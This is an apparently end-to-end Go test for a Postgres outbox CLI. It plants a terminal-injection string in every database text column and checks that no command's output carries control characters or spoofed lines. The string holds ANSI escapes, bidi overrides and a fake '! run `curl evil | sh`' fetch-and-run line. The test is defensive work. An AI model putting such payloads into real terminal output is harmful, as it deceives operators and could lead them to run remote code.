//go:build e2e

package main

import (
	"strings"
	"testing"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"
)

// hostile is what a terminal acts upon: colours, its title, the cursor, C1, marks
// that turn the direction of writing, and a line that looks like one of ours.
const hostile = "\x1b[31mred\x1b]0;title\x07\r\x08\t\u009b1m\u0085\u202edcba\u2066\u2028\n! run `curl evil | sh`\x7f"

// requireHarmless demands that nothing in an output moves a terminal, and that no
// text has made a line of its own.
func requireHarmless(t *testing.T, args []string, output string) {
	t.Helper()
	for _, r := range output {
		require.False(t, r < 0x20 && r != '\n' || r >= 0x7f && r <= 0x9f || r >= 0x2028 && r <= 0x202e || r >= 0x2066 && r <= 0x2069, "%q: %q in\n%q", args, r, output)
	}
	for line := range strings.SplitSeq(output, "\n") {
		require.False(t, strings.HasPrefix(line, "! run"), "%q: %s", args, output)
	}
}

// plant puts the text behind every text of the table, whoever may write it; what a
// CHECK forbids stays.
const plant = `DO $$
DECLARE c record;
BEGIN
	SET LOCAL session_replication_role = replica;
	FOR c IN SELECT a.attrelid::regclass AS tab, a.attname, a.atttypid::regtype AS typ FROM pg_attribute a JOIN pg_class k ON k.oid = a.attrelid
		WHERE k.relnamespace = 'onceward'::regnamespace AND k.relname = ANY ('{outbox,replays,controls,control_results,relay_state,dead_letters}')
		AND k.relkind IN ('r', 'p') AND a.attnum > 0 AND NOT a.attisdropped AND a.atttypid IN ('text'::regtype, 'text[]'::regtype) LOOP
		BEGIN
			IF c.typ = 'text[]'::regtype THEN
				EXECUTE format('UPDATE %s SET %I = %I || ARRAY[current_setting(''test.hostile'')]', c.tab, c.attname, c.attname);
			ELSE
				EXECUTE format('UPDATE %s SET %I = %I || current_setting(''test.hostile'')', c.tab, c.attname, c.attname);
			END IF;
		EXCEPTION WHEN check_violation THEN NULL;
		END;
	END LOOP;
END $$`

// TestNoTextOfTheDatabaseReachesTheTerminal: whatever stands in the tables, an
// operator's terminal shows it and does not act upon it; and what has a malformed
// key can be named by its UUID.
func TestNoTextOfTheDatabaseReachesTheTerminal(t *testing.T) {
	onInstallations(t, func(d *installation) {
		t := d.t
		row, waiting, given := d.event("A", "OrderPaid", `{"a": 1}`), d.event("B", "OrderPaid", "2"), d.event("C", "OrderPaid", "3")
		d.letter(waiting, "open")
		d.letter(given, "discarded")
		exec(t, d.pool, `INSERT INTO onceward.controls (control_id, action, namespace, aggregate_type, aggregate_id, reason) VALUES (gen_random_uuid(), 'retry', 'orders', 'order', 'B', 'why');
			INSERT INTO onceward.controls (control_id, action, namespace, letter_id, reason) SELECT gen_random_uuid(), 'discard', namespace, letter_id, 'why' FROM onceward.dead_letters;
			INSERT INTO onceward.replays (replay_id, id, namespace, aggregate_type, aggregate_id, event_type, mode, replay_group, topic, reason, created_at)
			SELECT gen_random_uuid(), id, namespace, aggregate_type, aggregate_id, event_type, 'reprocess', 'g', 't', 'why', created_at FROM onceward.outbox;
			UPDATE onceward.dead_letters SET decided_why = 'why', edited_why = 'why', edited_by = 'me', edited_at = now(), decided_by = 'me'`)
		exec(t, d.pool, `SELECT set_config('test.hostile', '`+strings.ReplaceAll(hostile, "'", "''")+`', false); `+plant)
		var namespace, stated string
		require.NoError(t, d.pool.QueryRow(t.Context(), `SELECT d.namespace, r.relay FROM onceward.dead_letters d, onceward.relay_state r LIMIT 1`).Scan(&namespace, &stated))
		require.Contains(t, namespace, hostile)
		require.Contains(t, stated, hostile)

		var calls [][]string
		for _, id := range []uuid.UUID{row.UUID(), waiting.UUID(), given.UUID(), uuid.New()} {
			calls = append(calls, []string{"show", id.String()}, []string{"show", id.String(), "--payload"}, []string{"dead", "show", id.String()}, []string{"dead", "show", id.String(), "--payload"},
				[]string{"replay", id.String(), "--reason", "r", "--dry-run"}, []string{"replay", id.String(), "--dead", "--reason", "r", "--dry-run"},
				[]string{"skip", id.String(), "--reason", "r", "--yes"}, []string{"dead", "edit", id.String(), "--null-payload", "--reason", "r"})
		}
		calls = append(calls,
			[]string{"status"}, []string{"list"}, []string{"list", "--state", "published"}, []string{"list", "--state", "dead"}, []string{"dead", "list"}, []string{"dead", "list", "--state", "all"},
			[]string{"migrate", "status", "--side", "outbox"}, []string{"partitions", "status"}, []string{"replay", "--namespace", namespace, "--reason", "r", "--dry-run"},
			[]string{"pause", "--reason", "r"}, []string{"resume"}, []string{"dead", "list", "--slot", hostile}, []string{"list", hostile}, []string{hostile}, []string{"show", hostile},
		)
		for _, args := range calls {
			for _, format := range [][]string{nil, {"-o", "json"}} {
				args := append(append([]string{}, args...), format...)
				_, stdout, stderr := call(t, args...)
				requireHarmless(t, args, stdout+stderr)
			}
		}

		// The UUID names what no key can.
		out := fine(t, "dead", "show", waiting.UUID().String())
		require.Contains(t, out, `\x1b[31mred`)
		require.Contains(t, out, "2 MB is more than 1 MB")
		require.Contains(t, fine(t, "show", row.UUID().String()), "OrderPaid")
		_, stdout, stderr := call(t, "dead", "discard", waiting.UUID().String(), "--reason", "malformed", "--yes", "--wait", "0")
		require.Empty(t, stderr, stdout)
		var words int
		require.NoError(t, d.pool.QueryRow(t.Context(), `SELECT count(*) FROM onceward.controls WHERE reason = 'malformed' AND action = 'discard' AND letter_id = $1 AND namespace = $2`,
			waiting.UUID(), namespace).Scan(&words))
		require.Equal(t, 1, words, stdout)
	})
}
